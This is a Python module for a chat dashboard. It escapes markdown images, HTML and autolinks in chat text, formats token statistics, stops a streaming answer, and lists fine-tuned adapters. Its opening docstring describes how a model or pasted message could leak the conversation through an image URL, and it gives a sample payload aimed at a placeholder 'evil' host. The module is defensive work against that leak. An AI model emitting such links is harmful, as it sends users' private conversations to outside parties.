"""The chat page's logic (no Streamlit here).

Chat text made safe to show as markdown: no images and no raw HTML, so neither the model nor a
pasted message can make the browser fetch a URL (an image URL can carry the conversation away:
`![x](https://evil/?q=secret)`). Everything else (bold, lists, links, tables, code) renders as
before. Also: the line of figures under an answer, stopping an answer in progress from the next
run (`RunningAnswer`), and the fine-tuned adapters the model picker offers."""

from __future__ import annotations

import re
import threading
from dataclasses import dataclass
from pathlib import Path

from dashboard.lib import jobs

WORD_JOINER = "\u2060"  # invisible, and no line break: splits `![` or `<tag` inside code
_FENCE = re.compile(r" {0,3}(`{3,}|~{3,})")
_LINES = re.compile(r"(?<=\n)|(?<=\r)(?!\n)")  # markdown's line ends: \n, \r\n, \r
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")  # what HTML, comments and autolinks start with


def safe_markdown(text: str) -> str:
    """`text` with every image (`![alt](url)`, `![alt][ref]`, `![alt]`) and every HTML tag or
    `<autolink>` shown as the characters typed instead of rendered.

    Outside code a backslash escapes the `[` of `![` and every `<` (invisible once rendered);
    inside code, where a backslash would show, a word joiner splits them. Code is found by
    simple rules (fences, one-line backtick and `$` spans) that only choose between the two:
    both stop the image or tag, so a wrong guess can leave a stray backslash, never an image."""
    out: list[str] = []
    fence: str | None = None  # the open code fence
    for line in _LINES.split(text):
        if fence is not None:
            out.append(_in_code(line))
            if re.fullmatch(rf" {{0,3}}{re.escape(fence)}{re.escape(fence[0])}*[ \t]*\r?\n?", line):
                fence = None
            continue
        opener = _FENCE.match(line)
        # (a backtick fence's info string has no backticks: "```a`b" is inline code)
        if opener and not (opener[1][0] == "`" and "`" in line[opener.end() :]):
            fence = opener[1]
            out.append(_in_code(line))
        else:
            out.append(_inline(line))
    return "".join(out)


def _in_code(code: str) -> str:
    return _TAG_START.sub("<" + WORD_JOINER, code.replace("![", "!" + WORD_JOINER + "["))


def _inline(line: str) -> str:
    """One line outside code blocks: code and math spans split invisibly, the rest escaped."""
    out: list[str] = []
    i = 0
    while i < len(line):
        ch = line[i]
        if ch == "\\":  # an escaped character stays as it is (an escaped `<` or `!` is text)
            out.append(line[i : i + 2])
            i += 2
        elif ch in "`$":  # a span closes with a run of exactly the same length
            run = ch * (len(line) - i - len(line[i:].lstrip(ch)))
            close = next(
                (m for m in re.finditer(rf"{re.escape(ch)}+", line[i + len(run) :]) if m[0] == run),
                None,
            )
            if close is None:
                out.append(run)
                i += len(run)
            else:
                end = i + len(run) + close.end()
                out.append(_in_code(line[i:end]))
                i = end
        elif ch == "!" and line.startswith("[", i + 1):
            out.append("!\\[")
            i += 2
        elif ch == "<":
            out.append("\\<")
            i += 1
        else:
            out.append(ch)
            i += 1
    return "".join(out)


def turn_stats(usage: dict | None, seconds: float, streaming_seconds: float | None = None) -> str:
    """One line under an answer: tokens in and out and the generation speed. The speed counts
    from the first token (`streaming_seconds`) when known, so the prompt's processing and the
    note lookup do not make a fast model look slow."""
    if not usage:
        return f"{seconds:.1f} s (the model reports no token counts)"
    read, wrote = usage.get("input_tokens", 0), usage.get("output_tokens", 0)
    line = f"{read:,} tokens in · {wrote:,} out · {seconds:.1f} s"
    span = streaming_seconds if streaming_seconds else seconds
    if wrote and span > 0:
        line += f" · {wrote / span:.1f} tokens/s"
    return line


def dropped_note(dropped: int, history: int) -> str:
    """Says how much of the conversation the model did not see ("" when it saw everything)."""
    if dropped <= 0:
        return ""
    kept = max(history - dropped, 0)
    plural = "s" if dropped != 1 else ""
    return (
        f"The {dropped} oldest message{plural} did not fit the model's context and were left "
        f"out: it saw {kept} of the {history} earlier messages."
    )


# -- stopping an answer ----------------------------------------------------------------------
STOP_WAIT_S = 10.0  # how long a new run waits for the answer it stopped to be saved


class RunningAnswer:
    """The answer one page run is streaming, kept where the browser session's next run finds it.

    A click on the page (Stop, or any other control) starts a new run at once, in another
    thread, while the old run is still generating; the old run would only notice at its next
    piece of text, and the model keeps computing until then. So the new run `halt`s the answer:
    its `stop` event ends the model after the token it is computing (ChatSession.stream), and the
    new run waits for `done` (the stopped part saved) before it reads the conversation."""

    def __init__(self) -> None:
        self.stop = threading.Event()  # passed to ChatSession.stream
        self.done = threading.Event()  # set by the streaming run once the turn is closed

    def halt(self, timeout: float = STOP_WAIT_S) -> bool:
        """Stop the answer and wait until its turn is saved; False if it took over `timeout`."""
        self.stop.set()
        return self.done.wait(timeout)


# -- fine-tuned adapters for the model picker -------------------------------------------------
_UPLOAD_PREFIX = re.compile(r"^[0-9a-f]{16}-")  # finetune_view.save_upload's content-hash prefix


@dataclass(frozen=True)
class Finetuned:
    """A finished fine-tune job's adapter, as the chat page's model picker offers it. Its key,
    the job id, is what the picker and the URL's ?model= hold (never a server path)."""

    key: str
    adapter: Path
    label: str


def finetuned_models(root: Path | None = None) -> dict[str, Finetuned]:
    """The adapters of the fine-tune jobs that finished (the Fine-tune page's runs), newest
    first, by job id. Unreadable job folders are skipped: the picker still shows the rest."""
    found: dict[str, Finetuned] = {}
    try:
        listed = jobs.list_jobs(root)
    except OSError:  # the jobs folder cannot be read: no fine-tuned models to offer
        return found
    for job in listed:
        adapter = job.output_dir / "adapter"
        try:
            if job.status != "done" or not (adapter / "adapter_config.json").is_file():
                continue
            argv = job.argv
        except (jobs.JobError, OSError, ValueError, KeyError):
            continue
        base = _flag(argv, "--model") or "?"
        data = _UPLOAD_PREFIX.sub("", Path(_flag(argv, "--data") or "?").name)
        found[job.id] = Finetuned(job.id, adapter, f"fine-tuned {base} on {data} (job {job.id})")
    return found


def _flag(argv: list[str], name: str) -> str | None:
    """The value after `name` in an argv (None if absent)."""
    try:
        return argv[argv.index(name) + 1]
    except (ValueError, IndexError):
        return None
